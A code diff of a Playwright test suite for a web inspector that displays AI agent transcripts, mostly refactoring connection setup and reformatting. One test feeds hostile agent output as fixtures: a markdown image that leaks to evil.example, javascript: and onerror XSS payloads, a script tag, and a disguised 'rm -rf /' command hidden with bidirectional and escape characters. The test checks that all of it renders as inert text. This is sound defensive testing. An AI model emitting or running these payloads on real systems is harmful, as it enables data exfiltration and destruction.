@@ -6,11 +6,11 @@ import { join } from 'node:path';
 import { env, exit } from 'node:process';
 import { chromium } from 'playwright-core';
 import { startMorning } from '../../examples/inspector/morning.mjs';
-import { startSite } from '../../examples/angular/site.mjs';
+import { connectManager } from '../../dist/esm/index.js';
+import { inspect } from '../../dist/esm/gateway/index.js';
 import { axeSource } from './axe.mjs';
 
 const root = join(import.meta.dirname, '../..');
-const dist = join(root, 'examples/inspector/dist');
 const images = join(root, 'docs/images');
 
 const browser = await chromium.launch({
@@ -26,14 +26,18 @@ async function check(title, run) {
     console.log(`ok      ${title}, ${((performance.now() - started) / 1_000).toFixed(1)} s`);
   } catch (error) {
     failed++;
-    console.log(`FAILED  ${title}\n        ${String(error.stack ?? error).replaceAll('\n', '\n        ')}`);
+    console.log(
+      `FAILED  ${title}\n        ${String(error.stack ?? error).replaceAll('\n', '\n        ')}`,
+    );
   }
 }
 
 /** A page in front of a fresh morning; nothing may go wrong in it. */
-async function open(options, run) {
+async function open({ readOnly = false, ...options }, run) {
   const morning = await startMorning(2);
-  const site = await startSite({ browser: dist, backend: morning.server.url });
+  const stream = connectManager({ url: morning.server.url, reconnect: { base: 50 } });
+  await stream.connect();
+  const site = await inspect(stream, { readOnly });
   const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, ...options });
   const page = await context.newPage();
   const wrong = [];
@@ -46,11 +50,12 @@ async function open(options, run) {
   try {
     await page.goto(site.url);
     await page.getByText('live', { exact: true }).waitFor();
-    await run({ page, morning, site, asked });
+    await run({ page, morning, stream, url: site.url, asked });
     assert.deepEqual(wrong, []);
   } finally {
     await context.close();
-    site.close();
+    await site.close();
+    await stream.close();
     await morning.server.close();
   }
 }
@@ -136,37 +141,45 @@ await check('questions are answered', () =>
   }),
 );
 
-await check('what a hostile agent writes is text: no script, no image, no link that runs, no hidden control', () =>
-  open({}, async ({ page, morning, site, asked }) => {
-    const turn = morning.server.startTurn(morning.threads.build, 'Go.');
-    const id = 'message-1';
-    const text =
-      '![pixel](http://evil.example/leak?q=1) [click](javascript:alert(1)) <img src=x onerror=alert(2)> ' +
-      '<script>alert(3)</script> \u202egnp.exe\n';
-    turn.notify('item/started', { item: { type: 'agentMessage', id, phase: null, text: '' } });
-    turn.notify('item/agentMessage/delta', { itemId: id, delta: text });
-    void morning.ask(turn, 'echo safe \u202e; rm -rf / #\u200b\u001b[2J');
-    const dialogs = [];
-    page.on('dialog', (dialog) => {
-      dialogs.push(dialog.message());
-      void dialog.dismiss();
-    });
-    await page.getByText('\\u202e; rm -rf / #\\u200b\\u001b[2J').first().waitFor();
-    await page.getByText('alert(3)').first().waitFor();
-    assert.equal(await page.locator('inspector-transcript a[href]').count(), 0);
-    assert.equal(await page.locator('inspector-transcript img, inspector-transcript script').count(), 0);
-    assert.deepEqual(dialogs, []);
-    assert.deepEqual(asked.filter((url) => !url.startsWith(site.url)), []);
-  }),
+await check(
+  'what a hostile agent writes is text: no script, no image, no link that runs, no hidden control',
+  () =>
+    open({}, async ({ page, morning, url, asked }) => {
+      const turn = morning.server.startTurn(morning.threads.build, 'Go.');
+      const id = 'message-1';
+      const text =
+        '![pixel](http://evil.example/leak?q=1) [click](javascript:alert(1)) <img src=x onerror=alert(2)> ' +
+        '<script>alert(3)</script> \u202egnp.exe\n';
+      turn.notify('item/started', { item: { type: 'agentMessage', id, phase: null, text: '' } });
+      turn.notify('item/agentMessage/delta', { itemId: id, delta: text });
+      void morning.ask(turn, 'echo safe \u202e; rm -rf / #\u200b\u001b[2J');
+      const dialogs = [];
+      page.on('dialog', (dialog) => {
+        dialogs.push(dialog.message());
+        void dialog.dismiss();
+      });
+      await page.getByText('\\u202e; rm -rf / #\\u200b\\u001b[2J').first().waitFor();
+      await page.getByText('alert(3)').first().waitFor();
+      assert.equal(await page.locator('inspector-transcript a[href]').count(), 0);
+      assert.equal(
+        await page.locator('inspector-transcript img, inspector-transcript script').count(),
+        0,
+      );
+      assert.deepEqual(dialogs, []);
+      assert.deepEqual(
+        asked.filter((one) => new URL(one).host !== new URL(url).host),
+        [],
+      );
+    }),
 );
 
 await check('a cut is a gap, and what waits is still there and answered once', () =>
-  open({}, async ({ page, morning, site }) => {
+  open({}, async ({ page, morning }) => {
     const turn = await morning.play();
     const answers = [];
     void morning.ask(turn).then((answer) => answers.push(answer));
     await page.getByText('rm -rf dist').first().waitFor();
-    site.cut();
+    for (const socket of morning.server.sockets) socket.terminate();
     await page.getByText('were missed').waitFor();
     await page.screenshot({ path: join(images, 'inspector-gap.png') });
     await page.getByText('rm -rf dist').first().waitFor();
@@ -200,7 +213,11 @@ await check('an export is a recording without its secrets', () =>
     const [download] = await Promise.all([page.waitForEvent('download'), page.keyboard.press('e')]);
     const chunks = [];
     for await (const chunk of await download.createReadStream()) chunks.push(chunk);
-    const lines = Buffer.concat(chunks).toString().trim().split('\n').map((line) => JSON.parse(line));
+    const lines = Buffer.concat(chunks)
+      .toString()
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line));
     assert.equal(lines[0].recording, 'codex-rx');
     assert.ok(lines.some(({ frame }) => frame?.type === 'app_server.turn.started'));
     assert.ok(!JSON.stringify(lines).includes('ghp_0123456789'));
@@ -221,16 +238,25 @@ await check('20,000 events are drawn at most once a frame, and the text is whole
       };
       requestAnimationFrame(frame);
       const count = document.querySelector('inspector-app header');
-      new MutationObserver(() => globalThis.seen.renders++).observe(count, { subtree: true, characterData: true });
+      new MutationObserver(() => globalThis.seen.renders++).observe(count, {
+        subtree: true,
+        characterData: true,
+      });
     });
     for (let i = 0; i < 20_000; i++) {
-      turn.notify('item/agentMessage/delta', { itemId: 'long', delta: i % 100 === 99 ? `${i}\n\n` : `${i} ` });
+      turn.notify('item/agentMessage/delta', {
+        itemId: 'long',
+        delta: i % 100 === 99 ? `${i}\n\n` : `${i} `,
+      });
       if (i % 500 === 0) await new Promise((resolve) => setTimeout(resolve, 10));
     }
     await page.getByText('19999').waitFor({ timeout: 60_000 });
     const { frames, renders } = await page.evaluate(() => globalThis.seen);
     const text = await page.locator('inspector-item.agentMessage .markdown').innerText();
-    assert.equal(text.replaceAll(/\s+/g, ' ').trim(), Array.from({ length: 20_000 }, (_, i) => i).join(' '));
+    assert.equal(
+      text.replaceAll(/\s+/g, ' ').trim(),
+      Array.from({ length: 20_000 }, (_, i) => i).join(' '),
+    );
     console.log(`        ${renders} renders in ${frames} frames`);
     assert.ok(renders <= frames + 1, `${renders} renders in ${frames} frames`);
   }),
